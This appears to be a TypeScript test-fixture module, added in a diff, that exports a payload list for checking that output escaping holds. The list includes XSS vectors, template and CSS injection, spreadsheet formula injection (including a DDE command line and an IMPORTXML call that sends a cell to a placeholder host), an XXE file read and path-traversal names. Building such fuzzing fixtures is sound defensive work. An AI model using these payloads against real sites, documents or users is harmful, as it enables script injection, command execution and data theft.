@@ -1,0 +1,260 @@
+/** What a payload would call if it ever ran; a page that opens one counts the calls. */
+export const ALARM = 'alarm()';
+
+const ELEMENTS = [
+  'script',
+  'img src=x',
+  'svg',
+  'body',
+  'iframe',
+  'video src=x',
+  'audio src=x',
+  'input autofocus',
+  'select autofocus',
+  'textarea autofocus',
+  'details open',
+  'marquee',
+  'object data=x',
+  'embed src=x',
+  'link rel=stylesheet href=x',
+  'style',
+  'form',
+  'a href=x tabindex=1',
+  'math',
+  'x-y',
+];
+
+const HANDLERS = [
+  'onload',
+  'onerror',
+  'onfocus',
+  'onclick',
+  'onpointerover',
+  'ontoggle',
+  'onanimationstart',
+  'onbegin',
+  'onstart',
+  'onpageshow',
+];
+
+/** An element with a handler, in every pair that comes up when the two lists are gone through. */
+const handled = ELEMENTS.flatMap((element, i) =>
+  [0, 3, 7].map((step) => {
+    const handler = HANDLERS[(i + step) % HANDLERS.length]!;
+    return `<${element} ${handler}=${ALARM}>`;
+  }),
+);
+
+/** Ways out of the place in which a text may have been put. */
+const BREAKOUTS = [
+  '">',
+  "'>",
+  '`>',
+  '-->',
+  ']]>',
+  '*/',
+  '</title>',
+  '</desc>',
+  '</text>',
+  '</style>',
+  '</script>',
+  '</textarea>',
+  '</template>',
+  '</svg>',
+  '</td></table>',
+  '\\">',
+  '&quot;>',
+  '\n\n',
+  '?>',
+  '%>',
+];
+
+const brokenOut = BREAKOUTS.flatMap((out) => [
+  `${out}<script>${ALARM}</script>`,
+  `${out}<img src=x onerror=${ALARM}>`,
+]);
+
+const scripts = [
+  `<script>${ALARM}</script>`,
+  `<SCRIPT>${ALARM}</SCRIPT>`,
+  `<scr<script>ipt>${ALARM}</scr</script>ipt>`,
+  `<script src=//example.invalid/x.js></script>`,
+  `<script type=module>${ALARM}</script>`,
+  `<script\u0000>${ALARM}</script>`,
+  `<script/x>${ALARM}</script>`,
+  `<<script>${ALARM}//<</script>`,
+  `<svg><script>${ALARM}</script></svg>`,
+  `<svg><script href="data:text/javascript,${ALARM}"/></svg>`,
+  `<svg><a xlink:href="javascript:${ALARM}"><text>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${ALARM}'/>#x"/></svg>`,
+  `<svg><animate onbegin=${ALARM} attributeName=x dur=1s>`,
+  `<svg><set attributeName=href to=javascript:${ALARM}>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${ALARM}</script>"></foreignObject></svg>`,
+  `<svg><image href=x onerror=${ALARM}></svg>`,
+  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${ALARM}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${ALARM}>">`,
+  `<template><script>${ALARM}</script></template>`,
+  `<base href="//example.invalid/">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${ALARM}">`,
+  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
+  `<iframe src=javascript:${ALARM}>`,
+  `<iframe srcdoc="&lt;script&gt;${ALARM}&lt;/script&gt;">`,
+  `<form action=javascript:${ALARM}><button>`,
+  `<button formaction=javascript:${ALARM}>`,
+  `<isindex action=javascript:${ALARM} type=image>`,
+  `<dialog open onclose=${ALARM}><form method=dialog>`,
+  `<portal src=javascript:${ALARM}>`,
+  `<xml><![CDATA[<script>${ALARM}</script>]]></xml>`,
+  `<![CDATA[<script>${ALARM}</script>]]>`,
+  `<?xml-stylesheet href="javascript:${ALARM}"?>`,
+  `<!ENTITY x "<script>${ALARM}</script>">&x;`,
+  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hosts">]>&y;`,
+];
+
+const ADDRESSES = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  'java\nscript:',
+  ' javascript:',
+  '\u0001javascript:',
+  'javascript&colon;',
+  'javascript&#58;',
+  '&#106;avascript:',
+  'vbscript:',
+  'data:text/html,<script>',
+  'data:image/svg+xml,<svg onload=',
+  'view-source:javascript:',
+  'blob:javascript:',
+  '//example.invalid/',
+  '\\\\example.invalid\\share\\',
+].map((scheme) => `${scheme}${ALARM}`);
+
+const templates = [
+  `{{${ALARM}}}`,
+  `{{constructor.constructor('${ALARM}')()}}`,
+  `\${${ALARM}}`,
+  `#{${ALARM}}`,
+  `<%= ${ALARM} %>`,
+  `[[${ALARM}]]`,
+  `{%${ALARM}%}`,
+  '<!--?lit$000000000$-->',
+  '<!--lit-part-->',
+  '<!--lit-part AAAA=--><b>x</b><!--/lit-part-->',
+  '<!--lit-node 0-->',
+  '<?lit$000000000$>',
+  'lit$000000000$',
+  `<b @click=\${${ALARM}} .innerHTML="x" ?hidden=\${1}>`,
+  '<!--',
+  '-->',
+  '<!-->',
+  '--!>',
+];
+
+const styles = [
+  `<style>@import 'javascript:${ALARM}'</style>`,
+  `<b style="background:url(javascript:${ALARM})">`,
+  `x:expression(${ALARM})`,
+  `;background:url(//example.invalid/x)`,
+  `} * { color: red } @import url(//example.invalid/x.css);`,
+  `url(#x);fill:url(//example.invalid/x.svg#y)`,
+  `\\3c script\\3e ${ALARM}`,
+  `--x:1;}</style><script>${ALARM}</script>`,
+];
+
+const encoded = [
+  `&lt;script&gt;${ALARM}&lt;/script&gt;`,
+  `&#60;script&#62;${ALARM}&#60;/script&#62;`,
+  `&#x3c;script&#x3e;${ALARM}`,
+  `%3Cscript%3E${ALARM}%3C/script%3E`,
+  `\\u003cscript\\u003e${ALARM}`,
+  `\\x3cscript\\x3e${ALARM}`,
+  `+ADw-script+AD4-${ALARM}+ADw-/script+AD4-`,
+  `\uFF1Cscript\uFF1E${ALARM}\uFF1C/script\uFF1E`,
+  `\u2039script\u203A${ALARM}`,
+  `<\u200bscript>${ALARM}`,
+  `\u202E<script>${ALARM}</script>`,
+  `\u2066\u202Etpircs\u2069 <img src=x onerror=${ALARM}>`,
+  `\uFEFF<script>${ALARM}</script>`,
+  `\u0000<script>${ALARM}</script>`,
+  `\u0008\u000b\u000c<script>${ALARM}</script>`,
+  `\u0085<script>${ALARM}</script>\u2028\u2029`,
+  `<ſcript>${ALARM}</ſcript>`,
+  `\uD800<script>${ALARM}</script>`,
+  `<script>${ALARM}</script>\uDFFF\uFFFE\uFFFF`,
+  `Z\u0351\u036B\u0343\u036A\u0302\u036B\u033DA<img src=x onerror=${ALARM}>`,
+];
+
+const formulas = [
+  '=1+1',
+  `=HYPERLINK("javascript:${ALARM}")`,
+  "=cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("https://example.invalid/?",A1),"//a")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\u202E=1+1',
+  '\u200B=1+1',
+  '\u0000=1+1',
+  '\uFEFF=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1+1)',
+  '"=1+1',
+  '";=1+1;"',
+  '",=1+1,"',
+  '"\r\n=1+1',
+  "'=1+1",
+];
+
+const names = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  '__defineGetter__',
+  'innerHTML',
+  'null',
+  'undefined',
+  '[object Object]',
+  '../../../etc/passwd',
+  '..\\..\\con',
+  'CON',
+  'lpt1',
+  'a/b\\c:d*e?f"g<h>i|j',
+  '.htaccess',
+  ' . ',
+  '%00',
+  '%n%n%s',
+];
+
+const polyglots = [
+  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${ALARM} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${ALARM}//>\\x3e`,
+  `'"--></style></script><svg onload=${ALARM}>{{${ALARM}}}\${${ALARM}}`,
+  `=<script>${ALARM}</script>","@x`,
+  `';${ALARM};//\\';${ALARM};//";${ALARM};//\\";${ALARM};//--></script>">'><script>${ALARM}</script>`,
+];
+
+/** Texts that would run, load, leave their place or deceive if any output took them for more than text. */
+export const PAYLOADS: readonly string[] = [
+  ...new Set([
+    ...scripts,
+    ...handled,
+    ...brokenOut,
+    ...ADDRESSES,
+    ...templates,
+    ...styles,
+    ...encoded,
+    ...formulas,
+    ...names,
+    ...polyglots,
+  ]),
+];
